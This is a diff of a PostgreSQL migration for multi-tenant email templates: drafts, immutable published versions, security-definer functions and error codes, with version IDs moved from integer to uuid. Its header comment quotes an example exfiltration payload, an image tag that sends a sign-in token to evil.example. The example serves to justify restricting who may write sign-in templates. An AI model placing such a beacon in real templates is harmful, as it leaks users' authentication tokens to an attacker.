@@ -1,13 +1,13 @@
 -- What a mail says: templates, their drafts, and the versions that were published.
 --
--- A kind of mail has a name and the variables that its data bring; it comes with the part that sends
--- it. What is written stands in rows: the platform's are the default of everybody, and a tenant's
--- own come before them. A version never changes once it is published, so that a mail that has to be
+-- A kind of mail has a name and the variables that its data bring; it comes with the part that
+-- sends it. What is written stands in rows: the platform's are the default of everybody, and a
+-- tenant's own come before them. A version never changes once it is published, so that a mail that has to be
 -- sent again is the same mail; what changes is which version is current.
 --
 -- Mails of sign-in carry tokens that open the whole platform to whoever has them, and a template
--- could send them anywhere: <img src="https://evil.example/{{ token }}">. So only the platform writes
--- those, and tenants put their brand on them.
+-- could send them anywhere: <img src="https://evil.example/{{ token }}">. So only the platform
+-- writes those, and tenants put their brand on them.
 
 set local lock_timeout = '5s';
 
@@ -52,7 +52,7 @@ create table core.templates (
     id uuid not null default gen_random_uuid(),
     template text not null references core.template_kinds (template),
     language text not null,
-    version_id integer,
+    version_id uuid,
     draft_subject text,
     draft_preheader text,
     draft_text text,
@@ -82,7 +82,7 @@ it inherits.';
 
 create table core.template_versions (
     tenant_id uuid not null,
-    id integer generated always as identity,
+    id uuid not null default gen_random_uuid(),
     template_id uuid not null,
     template text not null references core.template_kinds (template),
     language text not null,
@@ -112,8 +112,8 @@ create index template_versions_template on core.template_versions (template);
 comment on table core.template_versions is
 'What was published, word for word. Versions stay as they are.';
 comment on column core.template_versions.id is
-'Names a version in the whole database, whichever tenant and language it is of: what a delivery keeps
-as its template_version.';
+'Names a version, whichever tenant and language it is of: what a delivery keeps
+as its template_version_id.';
 comment on column core.template_versions.number is 'Counts the versions of a template, from 1.';
 comment on column core.template_versions.preheader is
 'A template of the line that mail programs show beside the subject.';
@@ -138,7 +138,8 @@ comment on function core.keep_version() is
 'Trigger before the content of a version changes: it does not.';
 
 create trigger versions_stay before update of
-id, template_id, template, language, number, subject, preheader, text, html, has_layout, published_at
+id, template_id, template, language, number, subject, preheader, text, html, has_layout,
+published_at
 on core.template_versions
 for each row execute function core.keep_version();
 
@@ -377,8 +378,8 @@ end
 $$;
 
 comment on function core.save_template(text, text, text, text, text, text, boolean) is
-'Does what v1.save_template says. Definer, because it writes core.templates. Signed-in users may call
-it.';
+'Does what v1.save_template says. Definer, because it writes core.templates. Signed-in users may
+call it.';
 
 create function core.publish_template(template text, language text) returns jsonb
 language plpgsql security definer set search_path = pg_catalog, pg_temp
@@ -444,7 +445,7 @@ language plpgsql security definer set search_path = pg_catalog, pg_temp
 as $$
 declare
     owned constant core.templates := core.own_template(template, language, false);
-    reverted_id integer;
+    reverted_id uuid;
 begin
     if owned.id is null then
         perform core.fail('template.version_unknown');
@@ -687,7 +688,10 @@ insert into core.errors (code, status, message, hint) values
     'template.default_needed', 409, 'Everybody falls back on this template.',
     'Go back to one of its versions, or publish another.'
 ),
-('template.form_unknown', 400, 'There is no such form of a template.', 'Use subject, text or html.'),
+(
+    'template.form_unknown', 400, 'There is no such form of a template.',
+    'Use subject, text or html.'
+),
 (
     'template.declaration_malformed', 400, 'The declaration of variables is malformed.',
     'Give each variable a type, and lists and objects their fields.'
@@ -719,7 +723,7 @@ insert into core.errors (code, status, message, hint) values
 ),
 (
     'template.html_unsafe', 400, 'This HTML could become something else than it looks like.',
-    'Use the elements of mails, quotes around attributes, and variables of the type url as addresses.'
+    'Use the elements of mails, quotes around attributes, and variables of the type url in links.'
 ),
 ('template.data_malformed', 400, 'The data are no object.', 'Send a JSON object.'),
 (
@@ -744,7 +748,9 @@ select core.audit(
     '{draft_subject,draft_preheader,draft_text,draft_html,draft_has_layout,draft_saved_at}'
 );
 select core.audit('core.template_versions', '{subject,preheader,text,html}');
-select core.map_personal('core.templates.created_by', 'user.unique_id', 'created_by is user_id', 'set_null');
+select core.map_personal(
+    'core.templates.created_by', 'user.unique_id', 'created_by is user_id', 'set_null'
+);
 select core.map_personal(
     'core.template_versions.published_by', 'user.unique_id', 'published_by is user_id', 'set_null'
 );
